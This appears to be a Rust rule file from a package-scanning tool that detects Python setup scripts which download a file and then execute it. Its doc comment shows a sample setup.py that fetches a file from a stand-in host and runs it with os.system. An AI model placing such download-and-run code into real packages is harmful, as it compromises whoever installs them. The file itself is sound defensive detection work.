//! ## What it detects
//!
//! A file that this code has written with what came over the network, and then runs.
//!
//! ## Why it is bad
//!
//! This is a dropper: the file that does the harm is not in the package.
//!
//! ## Innocent lookalikes
//!
//! Installers of browsers or drivers do this when they are asked to; code that only runs when called weighs less.
//!
//! ## Bad
//!
//! ```python setup.py
//! import urllib.request, os
//! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
//! os.system('/tmp/a')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import urllib.request
//! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
//! ```

use fondaco_python::{Api, Taint, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("downloaded-command"),
    title: "downloads a file and runs it",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    let fetches = |unit: &Unit| {
        unit.calls.iter().any(|call| {
            call.callee.ends_with("urlretrieve")
                || call.callee == "wget.download"
                || call.api == Some(Api::FileWrite) && call.taint().has(Taint::NETWORK)
        })
    };
    for (unit, call) in package.calls() {
        let runs = matches!(call.api, Some(Api::CodeExec | Api::Shell));
        if runs && call.taint().has(Taint::WRITTEN) && fetches(unit) {
            hits.call(unit, call, "runs a file that it has downloaded");
        }
    }
}
